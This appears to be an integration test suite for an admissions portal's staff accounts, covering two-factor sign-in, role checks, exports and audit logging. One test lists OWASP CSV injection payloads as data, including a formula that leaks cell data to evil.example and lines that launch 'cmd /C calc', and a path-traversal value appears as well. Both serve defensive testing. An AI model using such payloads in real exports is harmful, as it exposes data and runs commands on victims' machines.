import { randomUUID } from 'node:crypto';
import { mkdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  cookiesOf,
  logInAs,
  post,
  signUpAndConfirm,
  SITE_ORIGIN,
  STRONG_PASSWORD,
} from '../../test/accounts-helpers';
import {
  applicantWith as applicantWithAnswers,
  codeOf,
  getAs,
  inviteStaff,
  saveAnswersAs,
  setUpStaff,
  signedInStaff,
  signInStaff,
} from '../../test/staff-helpers';
import { buildMailedTestApp, type MailedTestApp } from '../../test/test-app';
import { queryRows } from '../platform/database/open-database';
import { exportColumns } from './staff-export';
import { auditEvents, documentAnswers, staffInvitations, staffSessions } from '../platform/database/schema';
import { STAFF_ROUTES } from '@portico/contracts';
import { APPLICATION, descriptionKey, indexDefinition } from '@portico/application';

describe('staff accounts: invitation, password and authenticator, sign-in with a second factor', () => {
  let testApp: MailedTestApp;
  const objectsDir = join(tmpdir(), `portico-staff-objects-${randomUUID()}`);
  beforeAll(async () => {
    testApp = await buildMailedTestApp({ objectsDir });
  });
  afterAll(async () => {
    await testApp.close();
  });

  const get = (url: string, cookie = '') => getAs(testApp, url, cookie);
  const postAs = (url: string, payload: unknown, cookie = '') => post(testApp, url, payload, { cookie });
  const invite = (email: string, role: 'reader' | 'admin') => inviteStaff(testApp, email, role);
  const setUp = (email: string, role: 'reader' | 'decider' | 'admin') => setUpStaff(testApp, email, role);
  const signIn = (email: string, code: string) => signInStaff(testApp, email, code);

  const saveAs = (applicantCookie: string, answers: Record<string, unknown>) =>
    saveAnswersAs(testApp, applicantCookie, answers);
  const applicantWith = (answers: Record<string, unknown>) => applicantWithAnswers(testApp, answers);

  /** What the exports are tried with: a radio answered (its label is exported), and an SSN (never). */
  const EXPORTED_ANSWERS = {
    first_name: 'Bea',
    gender: 'F',
    gender_desc: 'Female',
    citizenship_type: '1',
    ssn: '987-65-4321',
  };

  it('sets up a staff member from the e-mailed link once, with a password, an authenticator and 10 recovery codes', async () => {
    const email = 'dean.reader@harborvalley.example.edu';
    const { token, recoveryCodes } = await setUp(email, 'reader');
    expect(recoveryCodes).toHaveLength(10);
    expect(new Set(recoveryCodes).size).toBe(10);
    // The link is used up.
    expect((await get(`/staff-api/setup?token=${token}`)).statusCode).toBe(404);
    expect((await postAs('/staff-api/setup/password', { token, password: STRONG_PASSWORD })).statusCode).toBe(
      404,
    );
    // An address set up cannot be invited again.
    await expect(invite(email, 'admin')).rejects.toThrow();
  });

  it('refuses an expired link, a weak password and a wrong first code', async () => {
    const token = await invite('late.reader@harborvalley.example.edu', 'reader');
    expect((await postAs('/staff-api/setup/password', { token, password: 'short' })).statusCode).toBe(400);
    const { secret } = (
      await postAs('/staff-api/setup/password', { token, password: STRONG_PASSWORD })
    ).json<{
      secret: string;
    }>();
    const wrong = String((Number(codeOf(secret)) + 1) % 1_000_000).padStart(6, '0');
    expect((await postAs('/staff-api/setup/totp', { token, code: wrong })).statusCode).toBe(400);
    await testApp.database.db.update(staffInvitations).set({ expiresAt: new Date(Date.now() - 1000) });
    expect((await get(`/staff-api/setup?token=${token}`)).statusCode).toBe(404);
    expect((await postAs('/staff-api/setup/totp', { token, code: codeOf(secret) })).statusCode).toBe(404);
  });

  it('signs in with the password and then a code, each code once; a recovery code works once', async () => {
    const email = 'ada.admin@harborvalley.example.edu';
    const { secret, recoveryCodes } = await setUp(email, 'admin');

    const wrongPassword = await postAs('/staff-api/login', { email, password: 'Not-The-Password-1!' });
    expect(wrongPassword.statusCode).toBe(400);
    // The half session after the password opens nothing.
    const half = cookiesOf(await postAs('/staff-api/login', { email, password: STRONG_PASSWORD }));
    expect((await get('/staff-api/session', half)).statusCode).toBe(401);

    // The code of setup was used: the next step's code signs in, and only once.
    const code = codeOf(secret, 1);
    const { cookie, second } = await signIn(email, code);
    expect(second.statusCode).toBe(200);
    expect(second.json()).toEqual({ email, role: 'admin' });
    expect((await get('/staff-api/session', cookie)).json()).toEqual({ email, role: 'admin' });
    expect((await signIn(email, code)).second.statusCode).toBe(400);

    const recovery = recoveryCodes[0]!;
    expect((await signIn(email, recovery)).second.statusCode).toBe(200);
    expect((await signIn(email, recovery)).second.statusCode).toBe(400);

    // Logging out ends the session.
    expect((await postAs('/staff-api/logout', {}, cookie)).statusCode).toBe(200);
    expect((await get('/staff-api/session', cookie)).statusCode).toBe(401);
  });

  it('rotates the session token when the second factor completes: the half session’s token opens nothing after', async () => {
    const email = 'rotate.reader@harborvalley.example.edu';
    const { secret } = await setUp(email, 'reader');
    const { cookie, half, second } = await signIn(email, codeOf(secret, 1));
    expect(second.statusCode).toBe(200);
    const tokenOf = (header: string) => /portico_staff=([^;]+)/.exec(header)?.[1];
    expect(tokenOf(cookie)).toBeDefined();
    expect(tokenOf(cookie)).not.toBe(tokenOf(half));
    expect((await get('/staff-api/session', cookie)).statusCode).toBe(200);
    // Whoever saw the token before the code (a fixed cookie, a shoulder) holds nothing.
    expect((await get('/staff-api/session', half)).statusCode).toBe(401);
    expect((await postAs('/staff-api/login/code', { code: codeOf(secret, 2) }, half)).statusCode).toBe(401);
  });

  it('keeps staff and applicant sessions apart, admins apart from readers, and ends a session idle 30 minutes', async () => {
    const admin = 'grace.admin@harborvalley.example.edu';
    const reader = 'alan.reader@harborvalley.example.edu';
    const adminSecret = (await setUp(admin, 'admin')).secret;
    const readerSecret = (await setUp(reader, 'reader')).secret;
    const adminCookie = (await signIn(admin, codeOf(adminSecret, 1))).cookie;
    const readerCookie = (await signIn(reader, codeOf(readerSecret, 1))).cookie;
    const applicantCookie = await logInAs(testApp, await signUpAndConfirm(testApp));

    // No session, an applicant's: 401 on staff endpoints. A staff session on the applicant's: 401.
    for (const cookie of ['', applicantCookie]) {
      expect((await get('/staff-api/session', cookie)).statusCode).toBe(401);
      expect(
        (await postAs('/staff-api/staff', { email: 'x@example.edu', role: 'reader' }, cookie)).statusCode,
      ).toBe(401);
    }
    expect((await get('/api/profile', adminCookie)).statusCode).toBe(401);
    // A reader on an admin endpoint: 403; an admin invites.
    const invitee = { email: 'new.reader@harborvalley.example.edu', role: 'reader' };
    expect((await postAs('/staff-api/staff', invitee, readerCookie)).statusCode).toBe(403);
    expect((await postAs('/staff-api/staff', invitee, adminCookie)).statusCode).toBe(200);

    await testApp.database.db.update(staffSessions).set({ lastSeenAt: new Date(Date.now() - 31 * 60_000) });
    expect((await get('/staff-api/session', adminCookie)).statusCode).toBe(401);
  });

  it('refuses every staff route of the table without a whole staff session, readers the deciders’ and admins’ routes, deciders the admins’', async () => {
    const admin = 'table.admin@harborvalley.example.edu';
    const reader = 'table.reader@harborvalley.example.edu';
    const decider = 'table.decider@harborvalley.example.edu';
    const adminCookie = (await signIn(admin, codeOf((await setUp(admin, 'admin')).secret, 1))).cookie;
    const readerSecret = (await setUp(reader, 'reader')).secret;
    const readerCookie = (await signIn(reader, codeOf(readerSecret, 1))).cookie;
    const deciderCookie = (await signIn(decider, codeOf((await setUp(decider, 'decider')).secret, 1))).cookie;
    const halfCookie = cookiesOf(
      await postAs('/staff-api/login', { email: reader, password: STRONG_PASSWORD }),
    );
    const applicantCookie = await logInAs(testApp, await signUpAndConfirm(testApp));
    // A route added to the table is refused unless it is named here as open (its credential is
    // a token, a password or a half session) or as an admin's.
    const open = new Set(['staffInvitation', 'staffSetPassword', 'staffConfirmTotp', 'staffLogIn']);
    open.add('staffSecondFactor').add('staffLogOut');
    // Single sign-on: the provider's answer is the credential.
    open.add('staffSignInOptions').add('staffOidcStart').add('staffOidcCallback');
    const adminsOnly = new Set(['staffInvite', 'staffAudit', 'staffMembers', 'staffDisable', 'staffEnable']);
    adminsOnly.add('staffSetRole').add('staffResetAuthenticator').add('staffInviteAgain');
    adminsOnly.add('staffAssign').add('staffAssignmentCounts');
    adminsOnly
      .add('staffReleasePreview')
      .add('staffReleases')
      .add('staffCreateRelease')
      .add('staffCancelRelease');
    const decidersAndAdmins = new Set(['staffRecordDecision', 'staffRecordDecisions']);
    const ask = (method: string, path: string, cookie: string) =>
      testApp.app.inject({
        method: method as 'GET',
        // An unknown application: the session is asked before anything else.
        url: path.replace(':id', '00000000-0000-4000-8000-000000000000').replace(':key', 'transcript'),
        ...(method === 'GET' ? {} : { payload: {} }),
        headers: { cookie, origin: SITE_ORIGIN, 'sec-fetch-site': 'same-origin' },
      });
    const guarded = Object.entries(STAFF_ROUTES).filter(([name]) => !open.has(name));
    expect(guarded.length).toBeGreaterThan(8);
    for (const [name, { method, path }] of guarded) {
      for (const [who, cookie] of [
        ['nobody', ''],
        ['an applicant', applicantCookie],
        ['a password without its code', halfCookie],
      ] as const) {
        expect({ name, who, status: (await ask(method, path, cookie)).statusCode }).toEqual({
          name,
          who,
          status: 401,
        });
      }
      const readerStatus = (await ask(method, path, readerCookie)).statusCode;
      const deciderStatus = (await ask(method, path, deciderCookie)).statusCode;
      const adminStatus = (await ask(method, path, adminCookie)).statusCode;
      expect({
        name,
        reader: readerStatus === 403,
        decider: deciderStatus === 403,
        admin: adminStatus === 403 || adminStatus === 401,
      }).toEqual({
        name,
        reader: adminsOnly.has(name) || decidersAndAdmins.has(name),
        decider: adminsOnly.has(name),
        admin: false,
      });
    }
  });

  it('answers a hundred wrong codes in flight for one half session with at most five tries', async () => {
    const email = 'brute.reader@harborvalley.example.edu';
    const { secret } = await setUp(email, 'reader');
    const half = cookiesOf(await postAs('/staff-api/login', { email, password: STRONG_PASSWORD }));
    const wrong = String((Number(codeOf(secret)) + 7) % 1_000_000).padStart(6, '0');
    const answers = await Promise.all(
      Array.from({ length: 100 }, () => postAs('/staff-api/login/code', { code: wrong }, half)),
    );
    const statuses = answers.map((answer) => answer.statusCode);
    expect(statuses.filter((status) => status === 400).length).toBeLessThanOrEqual(5);
    expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(95);
  });

  it('lists applications newest first by keyset pages, finds them by name, e-mail or reference, and filters by status', async () => {
    const email = 'list.reader@harborvalley.example.edu';
    const { cookie } = await signIn(email, codeOf((await setUp(email, 'reader')).secret, 1));
    const stamp = Date.now().toString(36);
    const people = ['Okafor', 'Lindqvist', 'Tanaka'].map((last) => `${last}${stamp}`);
    const ids: string[] = [];
    for (const last of people) {
      const applicant = await signUpAndConfirm(testApp);
      const applicantCookie = await logInAs(testApp, applicant);
      const saved = await testApp.app.inject({
        method: 'PUT',
        url: '/api/answer',
        payload: {
          answers: { first_name: 'Ana', last_name: last, citizenship_type: '1', ssn: '123-45-6789' },
        },
        headers: { cookie: applicantCookie, origin: SITE_ORIGIN, 'sec-fetch-site': 'same-origin' },
      });
      expect(saved.statusCode).toBe(200);
      const profile = await get('/api/session', applicantCookie);
      expect(profile.statusCode).toBe(200);
      const found = await get(`/staff-api/applications?q=${encodeURIComponent(applicant)}`, cookie);
      ids.push(found.json<{ applications: { id: string }[] }>().applications[0]!.id);
    }

    // By last name, in any case; the newest activity first, two to a page, the pages joined whole.
    const search = `/staff-api/applications?q=${stamp.toUpperCase()}&limit=2`;
    const first = (await get(search, cookie)).json<{
      applications: { id: string; name: string }[];
      next: string;
    }>();
    expect(first.applications.map((row) => row.name)).toEqual([`Ana ${people[2]}`, `Ana ${people[1]}`]);
    const second = (await get(`${search}&after=${first.next}`, cookie)).json<{
      applications: { id: string }[];
      next: string | null;
    }>();
    expect([...first.applications, ...second.applications].map((row) => row.id)).toEqual([...ids].reverse());
    expect(second.next).toBeNull();
    expect(
      (await get(`/staff-api/applications?q=${stamp}&status=submitted_incomplete`, cookie)).json<{
        applications: unknown[];
      }>().applications,
    ).toEqual([]);
    expect((await get('/staff-api/applications?after=not-a-cursor', cookie)).statusCode).toBe(400);
    expect((await get('/staff-api/applications?limit=1000', cookie)).statusCode).toBe(400);

    // One application: the SSN masked until revealed, and both recorded.
    const view = await get(`/staff-api/applications/${ids[0]}`, cookie);
    expect(view.statusCode).toBe(200);
    expect(view.json<{ snapshot: { answer: Record<string, string> } }>().snapshot.answer.ssn).toBe(
      '***-**-6789',
    );
    const revealed = await postAs(`/staff-api/applications/${ids[0]}/ssn`, {}, cookie);
    expect(revealed.json()).toEqual({ ssn: '123-45-6789' });
    const recorded = await testApp.database.db.select().from(auditEvents);
    expect(
      recorded
        .filter((event) => event.applicantId === ids[0])
        .map((event) => event.action)
        .sort(),
    ).toEqual(['application.view', 'ssn.reveal']);
    expect(
      (await get('/staff-api/applications/00000000-0000-4000-8000-000000000000', cookie)).statusCode,
    ).toBe(404);
    expect((await get('/staff-api/applications/not-an-id', cookie)).statusCode).toBe(400);
    // No staff session, no list.
    expect((await get('/staff-api/applications', '')).statusCode).toBe(401);
  });

  it('finds a name by the one saved last, while searches and renames are in flight', async () => {
    const email = 'rename.reader@harborvalley.example.edu';
    const { cookie } = await signIn(email, codeOf((await setUp(email, 'reader')).secret, 1));
    const stamp = Date.now().toString(36);
    const applicant = await signUpAndConfirm(testApp, `noor.${stamp}@example.edu`);
    const applicantCookie = await logInAs(testApp, applicant);
    const rename = (last_name: string) => saveAs(applicantCookie, { first_name: 'Noor', last_name });
    const found = async (q: string) => {
      const answer = await get(`/staff-api/applications?q=${encodeURIComponent(q)}`, cookie);
      expect(answer.statusCode).toBe(200);
      return answer.json<{ applications: { email: string }[] }>().applications.map((row) => row.email);
    };
    await rename(`Before${stamp}`);
    expect(await found(`before${stamp}`)).toEqual([applicant]);
    // Twenty searches and twenty renames at once: the catch-ups take turns, none fails.
    await Promise.all(
      Array.from({ length: 20 }, async (_, n) => {
        await rename(`During${n}x${stamp}`);
        await found(`during${n}x${stamp}`);
      }),
    );
    await rename(`After${stamp}`);
    expect(await found(`after${stamp}`)).toEqual([applicant]);
    expect(await found(`before${stamp}`)).toEqual([]);
    expect(await found(`during3x${stamp}`)).toEqual([]);

    // The address is searched with the name, a part of it without its @ too; among two found, the
    // one saved last comes first, as its activity is caught up with its name.
    expect(await found(`noor.${stamp}`)).toEqual([applicant]);
    const twin = await signUpAndConfirm(testApp);
    const twinCookie = await logInAs(testApp, twin);
    await saveAs(twinCookie, { first_name: 'Noor', last_name: `After${stamp}` });
    expect(await found(`after${stamp}`)).toEqual([twin, applicant]);
    await rename(`After${stamp}`);
    expect(await found(`after${stamp}`)).toEqual([applicant, twin]);
  });

  it('filters by major with or without a term, as the applicant last saved them', async () => {
    const email = 'filter.reader@harborvalley.example.edu';
    const { cookie } = await signIn(email, codeOf((await setUp(email, 'reader')).secret, 1));
    const applicant = await signUpAndConfirm(testApp);
    const applicantCookie = await logInAs(testApp, applicant);
    const save = (answers: Record<string, string>) => saveAs(applicantCookie, answers);
    const listed = async (query: string) =>
      (await get(`/staff-api/applications?q=${encodeURIComponent(applicant)}&${query}`, cookie))
        .json<{ applications: { email: string }[] }>()
        .applications.map((row) => row.email);
    await save({ first_name: 'Mira', applied_major: 'ACCT', entry_term: '202708' });
    expect(await listed('major=ACCT')).toEqual([applicant]);
    expect(await listed('major=ACCT&term=202708')).toEqual([applicant]);
    expect(await listed('major=ACCT&term=202801')).toEqual([]);
    expect(await listed('term=202708')).toEqual([applicant]);
    // A later save of the major alone moves the application to it, and keeps its name findable.
    await save({ applied_major: 'ARTS' });
    expect(await listed('major=ACCT')).toEqual([]);
    expect(await listed('major=ARTS&term=202708')).toEqual([applicant]);
    expect(
      (await get('/staff-api/applications?q=mira&major=ARTS', cookie))
        .json<{ applications: { email: string }[] }>()
        .applications.map((row) => row.email),
    ).toContain(applicant);
  });

  it('exports the applications the filters select as CSV, a column per question, option labels as values', async () => {
    const email = 'export.reader@harborvalley.example.edu';
    const { cookie } = await signIn(email, codeOf((await setUp(email, 'reader')).secret, 1));
    const stamp = `Export${Date.now().toString(36)}`;
    const { applicant } = await applicantWith({ ...EXPORTED_ANSWERS, last_name: stamp });

    const response = await get(`/staff-api/applications.csv?q=${stamp}`, cookie);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="?applications-\d{4}-\d{2}-\d{2}\.csv"?$/,
    );
    const [headers, cells, ...rest] = parse(response.body, { bom: true }) as string[][];
    expect(rest).toEqual([]);
    const at = (label: string) => cells![headers!.indexOf(label)];
    expect(at('E-mail')).toBe(applicant);
    expect(at('Status')).toBe('In progress');
    expect(at('Legal Last Name')).toBe(stamp);
    expect(at('Legal Sex')).toBe('Female');
    // The SSN never travels in a spreadsheet.
    expect(response.body).not.toContain('987-65-4321');
    const recorded = await testApp.database.db.select().from(auditEvents);
    expect(recorded.map((event) => event.action)).toContain('applications.export');
    expect((await get('/staff-api/applications.csv', '')).statusCode).toBe(401);
  });

  it("writes every CSV cell that begins with = + - @ a tab or a carriage return as text (OWASP's CSV injection payloads), in every column", async () => {
    const cookie = await signedInStaff(testApp, 'formula.reader@harborvalley.example.edu', 'reader');
    // OWASP's CSV injection payloads, one for each character a spreadsheet reads as a formula.
    const PAYLOADS = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '=1+1',
      '@SUM(1+1)',
      '-2+3',
      '=cmd|calc@example.com',
      '\uFF1D1+1',
    ];
    // The e-mail check lets an address that is a formula through: the sign-up is the real one.
    const email = `=cmd|calc.${Date.now().toString(36)}@example.com`;
    await signUpAndConfirm(testApp, email);
    // Every column's answer a payload, written as stored (whatever a save would accept), the
    // descriptions that radios and selects export included, and the reference too.
    const keys = [...indexDefinition(APPLICATION).byPage.values()]
      .flat()
      .flatMap((question) => [question.key, descriptionKey(question.key)]);
    const answers = Object.fromEntries(keys.map((key, at) => [key, PAYLOADS[at % PAYLOADS.length]]));
    await queryRows(
      testApp.database.db,
      sql`insert into applications (applicant_id, answers, reference)
          select id, ${JSON.stringify(answers)}::jsonb, ${'@SUM(1+1)'} from applicants where email = ${email}
          on conflict (applicant_id) do update set answers = excluded.answers, reference = excluded.reference`,
    );

    const response = await get(`/staff-api/applications.csv?q=${encodeURIComponent(email)}`, cookie);
    expect(response.statusCode).toBe(200);
    const [headers, cells, ...rest] = parse(response.body, { bom: true }) as string[][];
    expect(rest).toEqual([]);
    // The fields before the questions' (reference, statuses, times, reader, decision, language…).
    const FIXED_FIELDS = headers!.length - exportColumns(APPLICATION, testApp.siteConfig).length;
    const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
    expect([...headers!, ...cells!].filter((cell) => FORMULA.test(cell))).toEqual([]);
    // Each value is kept, after the quote that makes it text: the e-mail, the reference, and a
    // payload in every question's column but the checkboxes' (Yes or nothing).
    const carried = cells!
      .slice(FIXED_FIELDS)
      .filter((cell) => cell.startsWith("'") && PAYLOADS.includes(cell.slice(1)));
    const checkboxes = [...indexDefinition(APPLICATION).byPage.values()]
      .flat()
      .filter((question) => question.kind === 'checkbox').length;
    expect(cells![headers!.indexOf('E-mail')]).toBe(`'${email}`);
    expect(cells![headers!.indexOf('Reference')]).toBe("'@SUM(1+1)");
    expect(carried).toHaveLength(headers!.length - FIXED_FIELDS - checkboxes);
    // Quoted, every one: a cell is never split at a comma into a new one that begins a formula.
    expect(response.body.split('\n')[1]!.startsWith(`"'@SUM(1+1)","`)).toBe(true);
  });

  it('exports the same applications as JSON, streamed a row at a time: an object each, answers by question key', async () => {
    const cookie = await signedInStaff(testApp, 'json.reader@harborvalley.example.edu', 'reader');
    const stamp = `Json${Date.now().toString(36)}`;
    const { applicant, applicantCookie } = await applicantWith({
      ...EXPORTED_ANSWERS,
      last_name: stamp,
      legal_agree_3: true,
    });

    const response = await get(`/staff-api/applications.json?q=${stamp}`, cookie);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="?applications-\d{4}-\d{2}-\d{2}\.json"?$/,
    );
    // Streamed: its length is not known before the last batch is written.
    expect(response.headers['content-length']).toBeUndefined();
    type Exported = Record<string, string | null> & { answers: Record<string, string | null> };
    const [row, ...rest] = response.json<Exported[]>();
    expect(rest).toEqual([]);
    expect(row).toMatchObject({
      reference: null,
      status: 'In progress',
      progress: 'Started',
      submitted_at: null,
      email: applicant,
      reader: null,
      decision: null,
    });
    expect(row!.answers).toMatchObject({
      first_name: 'Bea',
      last_name: stamp,
      gender: 'Female',
      legal_agree_3: 'Yes',
      middle_name: null,
    });
    expect(row!.answers).not.toHaveProperty('ssn');
    expect(response.body).not.toContain('987-65-4321');

    // The same fields and cells as the CSV, in its order: its header's labels, the JSON's keys; a
    // time to the minute in the CSV, to the second with its offset in the JSON.
    const csv = parse((await get(`/staff-api/applications.csv?q=${stamp}`, cookie)).body, {
      bom: true,
    }) as string[][];
    const [headers, cells] = csv;
    const { answers, ...fields } = row!;
    const json = [...Object.values(fields), ...Object.values(answers)].map((value) =>
      value?.replace(/^(\d{4}-\d\d-\d\d)T(\d\d:\d\d):\d\d[+-]\d\d:\d\d$/, '$1 $2'),
    );
    expect(headers).toHaveLength(json.length);
    expect(cells).toEqual(json.map((value) => value ?? ''));

    // The filters hold: a status it has not reached gives an empty array.
    expect(
      (await get(`/staff-api/applications.json?q=${stamp}&status=submitted_incomplete`, cookie)).json(),
    ).toEqual([]);
    const audited = await testApp.database.db.select().from(auditEvents);
    expect(audited.some((event) => event.action === 'applications.export-json')).toBe(true);
    expect((await get('/staff-api/applications.json', '')).statusCode).toBe(401);
    expect((await get('/staff-api/applications.json', applicantCookie)).statusCode).toBe(401);
  });

  it('exports more applications than one batch holds, each once, newest activity first', async () => {
    const cookie = await signedInStaff(testApp, 'batch.reader@harborvalley.example.edu', 'reader');
    // 1,201 applications written by SQL, as bench/staff-seed.mjs writes its 100,000: three batches.
    const domain = `batch${Date.now().toString(36)}.example`;
    await queryRows(
      testApp.database.db,
      sql`with made as (
            insert into applicants (email, password_hash)
            select 'applicant' || g || '@' || ${domain}, 'seeded: no password'
            from generate_series(1, 1201) g returning id, email)
          insert into applications (applicant_id, answers, updated_at)
          select id, jsonb_build_object('first_name', 'Batch', 'last_name', split_part(email, '@', 1)),
            now() - split_part(split_part(email, '@', 1), 'applicant', 2)::int * interval '1 second'
          from made`,
    );
    const response = await get(`/staff-api/applications.json?q=${encodeURIComponent(`@${domain}`)}`, cookie);
    expect(response.statusCode).toBe(200);
    const emails = response.json<{ email: string }[]>().map((row) => row.email);
    expect(emails).toEqual(Array.from({ length: 1201 }, (_, n) => `applicant${n + 1}@${domain}`));
  });

  it('shows admins the audit table newest first, by keyset pages, filtered by staff member and applicant; not readers', async () => {
    const admin = 'audit.admin@harborvalley.example.edu';
    const reader = 'audit.reader@harborvalley.example.edu';
    const adminCookie = (await signIn(admin, codeOf((await setUp(admin, 'admin')).secret, 1))).cookie;
    const readerCookie = (await signIn(reader, codeOf((await setUp(reader, 'reader')).secret, 1))).cookie;
    const stamp = `Audit${Date.now().toString(36)}`;
    const { applicant } = await applicantWith({ first_name: 'Cy', last_name: stamp });
    const { applications } = (await get(`/staff-api/applications?q=${stamp}`, readerCookie)).json<{
      applications: { id: string }[];
    }>();
    const id = applications[0]!.id;
    expect((await get(`/staff-api/applications/${id}`, readerCookie)).statusCode).toBe(200);
    expect((await postAs(`/staff-api/applications/${id}/ssn`, {}, readerCookie)).statusCode).toBe(200);

    type Audit = {
      events: {
        action: string;
        staff_email: string | null;
        applicant_id: string | null;
        applicant_name: string | null;
      }[];
      next: string | null;
    };
    const about = (await get(`/staff-api/audit?applicant=${stamp.toLowerCase()}`, adminCookie)).json<Audit>();
    expect(about.events.map((event) => [event.action, event.staff_email, event.applicant_id])).toEqual([
      ['ssn.reveal', reader, id],
      ['application.view', reader, id],
    ]);
    expect(about.events[0]!.applicant_name).toBe(`Cy ${stamp}`);
    const byReader = (await get(`/staff-api/audit?staff=AUDIT.READER`, adminCookie)).json<Audit>();
    expect(byReader.events.map((event) => event.action)).toEqual([
      'ssn.reveal',
      'application.view',
      'staff.sign-in',
      'staff.setup',
      // The invitation names the invited address: the command that sent it is nobody.
      'staff.invited',
    ]);
    // Three to a page, the pages joined whole.
    const first = (await get('/staff-api/audit?staff=audit.reader&limit=3', adminCookie)).json<Audit>();
    const second = (
      await get(`/staff-api/audit?staff=audit.reader&limit=3&after=${first.next}`, adminCookie)
    ).json<Audit>();
    expect([...first.events, ...second.events]).toEqual(byReader.events);
    expect(second.next).toBeNull();
    expect((await get('/staff-api/audit?after=nonsense', adminCookie)).statusCode).toBe(400);

    // Readers, applicants and strangers see none of it.
    expect((await get('/staff-api/audit', readerCookie)).statusCode).toBe(403);
    expect((await get('/staff-api/audit', await logInAs(testApp, applicant))).statusCode).toBe(401);
    expect((await get('/staff-api/audit', '')).statusCode).toBe(401);
  });

  it('gives the application PDF to staff only, for an application that exists', async () => {
    const email = 'pdf.reader@harborvalley.example.edu';
    const { cookie } = await signIn(email, codeOf((await setUp(email, 'reader')).secret, 1));
    const unknown = '/staff-api/applications/00000000-0000-4000-8000-000000000000/pdf';
    expect((await get(unknown, cookie)).statusCode).toBe(404);
    expect((await get(unknown, '')).statusCode).toBe(401);
    const applicant = await logInAs(testApp, await signUpAndConfirm(testApp));
    expect((await get(unknown, applicant)).statusCode).toBe(401);
  });

  it("gives staff an applicant's document as its PDF, records it, and nothing else", async () => {
    const email = 'document.reader@harborvalley.example.edu';
    const { cookie } = await signIn(email, codeOf((await setUp(email, 'reader')).secret, 1));
    const { applicant, applicantCookie } = await applicantWith({ first_name: 'Dana' });
    const found = await get(`/staff-api/applications?q=${encodeURIComponent(applicant)}`, cookie);
    const id = found.json<{ applications: { id: string }[] }>().applications[0]!.id;
    // The conversion's result, as it leaves it: a COMPLETED answer and its PDF in the store.
    const pdfKey = `pdfs/${id}/hs_transcript.pdf`;
    await mkdir(join(objectsDir, dirname(pdfKey)), { recursive: true });
    await writeFile(join(objectsDir, pdfKey), '%PDF-1.7 transcript');
    await testApp.database.db.insert(documentAnswers).values({
      applicantId: id,
      answerKey: 'hs_transcript',
      status: 'COMPLETED',
      fileName: 'transcript.png',
      fileSize: 20,
      pdfKey,
    });

    const url = `/staff-api/applications/${id}/documents/hs_transcript`;
    const response = await get(url, cookie);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    expect(response.headers['content-disposition']).toContain('transcript.pdf');
    expect(response.body).toBe('%PDF-1.7 transcript');
    const audit = await testApp.database.db.select().from(auditEvents);
    expect(audit.some((row) => row.action === 'document.download' && row.applicantId === id)).toBe(true);

    // Shown in place (the reading screen's frame): inline, framed by the site's own pages only.
    const inline = await get(`${url}?inline=1`, cookie);
    expect(inline.statusCode).toBe(200);
    expect(inline.headers['content-type']).toBe('application/pdf');
    expect(inline.headers['content-disposition']).toBe('inline; filename=transcript.pdf');
    expect(inline.headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'self'");
    expect(inline.headers['x-frame-options']).toBe('SAMEORIGIN');
    expect(response.headers['content-security-policy']).toContain("frame-ancestors 'none'");
    const viewed = await testApp.database.db.select().from(auditEvents);
    expect(viewed.some((row) => row.action === 'document.view' && row.applicantId === id)).toBe(true);
    expect((await get(`${url}?inline=yes`, cookie)).statusCode).toBe(400);

    // No document there, no application, a key no question has, and no staff session.
    expect((await get(`/staff-api/applications/${id}/documents/fee_waiver_letter`, cookie)).statusCode).toBe(
      404,
    );
    const unknown = '/staff-api/applications/00000000-0000-4000-8000-000000000000/documents/hs_transcript';
    expect((await get(unknown, cookie)).statusCode).toBe(404);
    expect((await get(`/staff-api/applications/${id}/documents/..%2Fsecret`, cookie)).statusCode).toBe(400);
    expect((await get(url, '')).statusCode).toBe(401);
    expect((await get(url, applicantCookie)).statusCode).toBe(401);
  });

  it('records sign-ins, failures and invitations in an audit table that refuses changes', async () => {
    const rows = await testApp.database.db.select().from(auditEvents);
    const actions = new Set(rows.map((row) => row.action));
    for (const action of [
      'staff.invited',
      'staff.setup',
      'staff.sign-in',
      'staff.sign-in-failed',
      'staff.sign-out',
    ]) {
      expect(actions).toContain(action);
    }
    // Each sign-in and each failed one says how it was tried: here, always a password and a code.
    const signIns = rows.filter((row) => /^staff\.(sign-in|second-factor)/.test(row.action));
    expect(signIns.length).toBeGreaterThan(0);
    for (const row of signIns) expect(row.method).toBe('password');
    await expect(queryRows(testApp.database.db, sql`update audit_events set action = 'x'`)).rejects.toThrow();
    await expect(queryRows(testApp.database.db, sql`delete from audit_events`)).rejects.toThrow();
    expect(await testApp.database.db.select().from(auditEvents)).toHaveLength(rows.length);
  });
});
